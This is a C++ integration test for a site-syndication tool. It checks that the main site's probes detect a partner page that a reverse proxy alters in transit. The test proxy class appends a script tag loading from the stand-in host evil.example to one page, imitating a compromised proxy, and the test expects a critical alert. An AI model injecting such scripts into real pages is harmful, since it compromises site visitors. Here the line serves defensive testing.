// Integration (issue 17 item 3): main's probes of a partner's public pages, between real
// `tieup main serve` and `tieup partner serve` processes on loopback, through a real reverse
// proxy in front of the partner that terminates HTTPS (an HTTP server in this test, with a
// certificate for "localhost" from a private CA that main trusts through
// security.probe_ca_file, forwarding every request to the partner's plain HTTP port). While the
// proxy passes the partner's bytes unchanged, main's probes go through every page of the partner's
// release, pass after pass, with no problem. Once the proxy changes one page on the way out (the
// files on the partner's disk stay right, so the partner's own integrity monitor sees nothing),
// main raises a critical "probe-mismatch" alert naming the page, and mails it; with the proxy gone,
// a "probe-unreachable" warning. Probes of a partner without the security service never happen.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <atomic>
#include <boost/asio/ssl/context.hpp>

#include "base/worker_pool.h"
#include "daemon_harness.h"
#include "net/http_client.h"
#include "net/http_server.h"
#include "site/config.h"
#include "sync_harness.h"
#include "test_support.h"

namespace tieup::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

// Forwards every request to 127.0.0.1:`upstream`; while `deface` is set, the body of `page`
// comes back with a script added, as a compromised proxy would serve it.
class DefacingProxy final : public HttpHandler {
 public:
  DefacingProxy(int upstream, std::string page) : upstream_(upstream), page_(std::move(page)) {}

  void Handle(const HttpRequest& request, HttpResponder responder) override {
    auto reply = std::make_shared<HttpResponder>(std::move(responder));
    HttpRequest forward(request.method(), request.target());
    for (const HttpHeaderView& h : request.Headers()) {
      if (!EqualsIgnoreCase(h.name, "Host")) forward.AddHeader(h.name, h.value);
    }
    const std::string path(request.path());
    pool_.Submit([this, forward = std::move(forward), path, reply] {
      auto got = HttpFetch("127.0.0.1", static_cast<uint16_t>(upstream_), forward);
      if (!got.ok()) {
        reply->Respond(HttpResponse::Text(502, got.status().message()));
        return;
      }
      ++forwarded_;
      if (!deface_ || path != page_) {
        reply->Respond(std::move(*got));
        return;
      }
      HttpResponse changed(got->status());
      if (auto type = got->FindHeader("Content-Type")) changed.AddHeader("Content-Type", *type);
      changed.SetBody(std::string(got->body()) + "<script src=\"//evil.example/x.js\"></script>");
      reply->Respond(std::move(changed));
    });
  }

  void Deface() { deface_ = true; }
  int forwarded() const { return forwarded_; }

 private:
  const int upstream_;
  const std::string page_;
  std::atomic<bool> deface_{false};
  std::atomic<int> forwarded_{0};
  WorkerPool pool_{2};
};

class PageProbesTest : public MainSiteTest {
 protected:
  void SetUp() override {
    MainSiteTest::SetUp();
    // Fast rounds, many pages each: a pass over every page within a few seconds.
    ASSERT_TRUE(UpdateSiteConfig(*env_, main_dir_, [](SiteConfig& c) {
                  c.variables["security.probe_interval"] = "1s";
                  c.variables["security.probe_pages_per_hour"] = "36000";
                  c.variables["security.alert_email"] = "security@sakura.example";
                  return Status::Ok();
                }).ok());
    // The proxy's certificate: self-signed for "localhost", the CA main is told to trust.
    cert_ = dir_.Sub("proxy-cert.pem");
    key_ = dir_.Sub("proxy-key.pem");
    CommandResult made =
        RunProgram({"/usr/bin/openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:P-256", "-nodes", "-days", "2", "-subj", "/CN=localhost",
                    "-addext", "subjectAltName=DNS:localhost", "-keyout", key_, "-out", cert_},
                   "");
    ASSERT_EQ(made.exit_code, 0) << made.output;
    ASSERT_TRUE(UpdateSiteConfig(*env_, main_dir_, [&](SiteConfig& c) {
                  c.variables["security.probe_ca_file"] = cert_;
                  return Status::Ok();
                }).ok());
    Author("pages/tea/sencha.md", "---\ntitle: Sencha\n---\nA green tea.\n");
    Author("pages/tea/gyokuro.md", "---\ntitle: Gyokuro\n---\nA shaded green tea.\n");
  }

  void StartPartner(const std::string& id, const std::string& options) {
    const std::string dir = dir_.Sub(id);
    CommandResult init = EnrollNewPartner(main_dir_, main_sync_port_, dir, id, id, FreePort());
    ASSERT_EQ(init.exit_code, 0) << init.output;
    if (!options.empty()) {
      CommandResult set = RunTieup({"main", "partner", "set", main_dir_, id, "--options", options});
      ASSERT_EQ(set.exit_code, 0) << set.output;
    }
    partners_[id] =
        std::make_unique<SiteProcess>(std::vector<std::string>{"partner", "serve", dir});
    ASSERT_TRUE(partners_[id]->Start()) << partners_[id]->output();
  }

  std::string Probes() { return RunTieup({"main", "probes", main_dir_}).output; }

  // The line of main's "probe-unreachable" alert ("" : none).
  std::string UnreachableAlert() {
    const std::string out = RunTieup({"main", "alerts", main_dir_}).output;
    const size_t at = out.find("probe-unreachable");
    if (at == std::string::npos) return "";
    const size_t start = out.rfind('\n', at);
    return out.substr(start == std::string::npos ? 0 : start + 1,
                      out.find('\n', at) - (start == std::string::npos ? 0 : start + 1));
  }

  std::shared_ptr<boost::asio::ssl::context> ProxyTls() {
    auto ctx = std::make_shared<boost::asio::ssl::context>(boost::asio::ssl::context::tls_server);
    ctx->use_certificate_chain_file(cert_);
    ctx->use_private_key_file(key_, boost::asio::ssl::context::pem);
    return ctx;
  }

  std::string cert_, key_;
  std::map<std::string, std::unique_ptr<SiteProcess>> partners_;
};

TEST_F(PageProbesTest, AProxyChangingAPageOnTheWayOutIsCaughtByMainsProbes) {
  StartMain();
  StartPartner("shop-a", "");
  StartPartner("shop-b", "");
  CommandResult pub = RunTieup({"main", "publish", main_dir_, "--all"});
  ASSERT_EQ(pub.exit_code, 0) << pub.output;
  ASSERT_TRUE(WaitFor(
      [&] { return StatusOf(HttpGet(partners_["shop-a"]->port(), "/tea/sencha.html")) == 200; },
      std::chrono::seconds(30)))
      << partners_["shop-a"]->output();

  // A reverse proxy in front of shop-a, which its public URL names.
  auto proxy = std::make_shared<DefacingProxy>(partners_["shop-a"]->port(), "/tea/sencha.html");
  HttpServerOptions o;
  o.tls = ProxyTls();
  HttpServer server(*env_, o, proxy);
  ASSERT_TRUE(server.Start().ok());
  const std::string url = "https://localhost:" + std::to_string(server.port());
  for (const std::string id : {"shop-a", "shop-b"}) {
    CommandResult set = RunTieup(
        {"main", "partner", "set", main_dir_, id, "--public-url",
         id == "shop-a" ? url : "http://127.0.0.1:" + std::to_string(partners_[id]->port())});
    ASSERT_EQ(set.exit_code, 0) << set.output;
  }
  // The service once the public URL is right (a probe of the harness's placeholder URL would
  // be a problem).
  CommandResult security =
      RunTieup({"main", "partner", "set", main_dir_, "shop-a", "--options", "security"});
  ASSERT_EQ(security.exit_code, 0) << security.output;

  // Unchanged bytes: whole passes over shop-a's pages, no problem.
  ASSERT_TRUE(WaitFor([&] { return Probes().find("complete passes") != std::string::npos; },
                      std::chrono::seconds(60)))
      << Probes() << main_->output();
  EXPECT_THAT(Probes(), HasSubstr("every page as main signed it"));
  EXPECT_GT(proxy->forwarded(), 0);
  // Only partners with the security service are probed.
  EXPECT_THAT(Probes(), Not(HasSubstr("shop-b")));
  EXPECT_THAT(RunTieup({"main", "alerts", main_dir_}).output, Not(HasSubstr("probe-")));

  // The proxy changes one page: main sees it, names it, and says it is critical.
  proxy->Deface();
  ASSERT_TRUE(WaitFor(
      [&] {
        return RunTieup({"main", "alerts", main_dir_, "--severity", "critical"})
                   .output.find("probe-mismatch") != std::string::npos;
      },
      std::chrono::seconds(60)))
      << RunTieup({"main", "alerts", main_dir_}).output << Probes();
  const std::string alerts = RunTieup({"main", "alerts", main_dir_, "--site", "shop-a"}).output;
  EXPECT_THAT(alerts, HasRegex(R"(critical\s+\S+\s+shop-a\s+probe-mismatch)"));
  EXPECT_THAT(alerts, HasSubstr("GET " + url + "/tea/sencha.html served "));
  EXPECT_THAT(alerts, HasSubstr("not what main signed"));
  EXPECT_THAT(alerts, Not(HasSubstr("/tea/gyokuro.html")));
  EXPECT_THAT(Probes(), HasSubstr("not what main signed"));
  // Mailed to the main manager.
  std::string mail;
  ASSERT_TRUE(WaitFor([&] {
    mail = PendingMailWith(*env_, main_dir_, "Security alert: probe-mismatch at shop-a");
    return !mail.empty();
  })) << main_->output();
  EXPECT_THAT(mail, HasSubstr("To: <security@sakura.example>"));
  EXPECT_THAT(mail, HasSubstr("/tea/sencha.html"));
  // The partner's own files are right: its own monitor has nothing to say.
  EXPECT_THAT(RunTieup({"partner", "alerts", dir_.Sub("shop-a"), "--severity", "warning"}).output,
              HasSubstr("No security alerts"));

  // Reached by its address, which the certificate does not name: refused like a browser would.
  const std::string by_ip = "https://127.0.0.1:" + std::to_string(server.port());
  CommandResult set =
      RunTieup({"main", "partner", "set", main_dir_, "shop-a", "--public-url", by_ip});
  ASSERT_EQ(set.exit_code, 0) << set.output;
  ASSERT_TRUE(WaitFor([&] { return !UnreachableAlert().empty(); }, std::chrono::seconds(60)))
      << RunTieup({"main", "alerts", main_dir_}).output;
  EXPECT_THAT(UnreachableAlert(), HasSubstr("GET " + by_ip + "/"));
  EXPECT_THAT(UnreachableAlert(), HasSubstr("certificate"));

  // With the proxy gone, the partner cannot be reached either.
  set = RunTieup({"main", "partner", "set", main_dir_, "shop-a", "--public-url", url});
  ASSERT_EQ(set.exit_code, 0) << set.output;
  server.Stop();
  ASSERT_TRUE(
      WaitFor([&] { return UnreachableAlert().find("GET " + url + "/") != std::string::npos; },
              std::chrono::seconds(60)))
      << RunTieup({"main", "alerts", main_dir_}).output;
}

TEST_F(PageProbesTest, AFurtherMainUnderAPathPrefixFindsItsPagesRight) {
  StartMain();
  const std::string shop = dir_.Sub("shop-a");
  CommandResult init =
      EnrollNewPartner(main_dir_, main_sync_port_, shop, "shop-a", "Shop A", FreePort());
  ASSERT_EQ(init.exit_code, 0) << init.output;
  // Main C: Kyoto guides, served by the partner under /kyoto/, probing it.
  const std::string c_dir = dir_.Sub("main-c");
  std::string output;
  const int c_sync = InitMainSite(c_dir, "Kyoto Guide", &output);
  ASSERT_NE(c_sync, 0) << output;
  ASSERT_TRUE(UpdateSiteConfig(*env_, c_dir, [](SiteConfig& c) {
                c.variables["security.probe_interval"] = "1s";
                c.variables["security.probe_pages_per_hour"] = "36000";
                return Status::Ok();
              }).ok());
  for (const auto& [rel, text] : std::vector<std::pair<std::string, std::string>>{
           {"pages/index.md", "---\ntitle: Kyoto\n---\n# Kyoto\n\n[Uji tea](tea.html)\n"},
           {"pages/tea.md", "---\ntitle: Uji tea\n---\n# Uji tea\n\nMatcha. [Home](/)\n"}}) {
    ASSERT_TRUE(CreateDirs(*env_, DirName(c_dir + "/authoring/" + rel)).ok());
    ASSERT_TRUE(WriteFileAtomic(*env_, c_dir + "/authoring/" + rel, text).ok());
  }
  SiteProcess c({"main", "serve", c_dir});
  ASSERT_TRUE(c.Start()) << c.output();
  const int c_port = FreePort();
  CommandResult add = AddPartnership(c_dir, "shop-a", "Shop A", c_port);
  ASSERT_EQ(add.exit_code, 0) << add.output;
  CommandResult enrolled =
      RunTieup({"partner", "enroll", shop, "--main", "https://127.0.0.1:" + std::to_string(c_sync),
                "--token", EnrollmentCodeOf(add.output), "--area-prefix", "/kyoto/",
                "--sync-address", "127.0.0.1:" + std::to_string(c_port)});
  ASSERT_EQ(enrolled.exit_code, 0) << enrolled.output;
  SiteProcess partner({"partner", "serve", shop});
  ASSERT_TRUE(partner.Start()) << partner.output();
  CommandResult set = RunTieup({"main", "partner", "set", c_dir, "shop-a", "--public-url",
                                "http://127.0.0.1:" + std::to_string(partner.port()) + "/kyoto/"});
  ASSERT_EQ(set.exit_code, 0) << set.output;
  set = RunTieup({"main", "partner", "set", c_dir, "shop-a", "--options", "security"});
  ASSERT_EQ(set.exit_code, 0) << set.output;
  CommandResult pub = RunTieup({"main", "publish", c_dir, "--all"});
  ASSERT_EQ(pub.exit_code, 0) << pub.output;
  // The partner serves C's page with its links moved under /kyoto/: not C's bytes.
  ASSERT_TRUE(WaitFor([&] { return StatusOf(HttpGet(partner.port(), "/kyoto/tea.html")) == 200; },
                      std::chrono::seconds(30)))
      << partner.output();
  EXPECT_THAT(BodyOf(HttpGet(partner.port(), "/kyoto/tea.html")), HasSubstr("href=\"/kyoto/\""));

  const auto probes = [&] { return RunTieup({"main", "probes", c_dir}).output; };
  ASSERT_TRUE(WaitFor([&] { return probes().find("complete passes") != std::string::npos; },
                      std::chrono::seconds(60)))
      << probes() << c.output();
  EXPECT_THAT(probes(), HasSubstr("every page as main signed it"));
  EXPECT_THAT(RunTieup({"main", "alerts", c_dir}).output, Not(HasSubstr("probe-")));
}

}  // namespace
}  // namespace tieup::testing
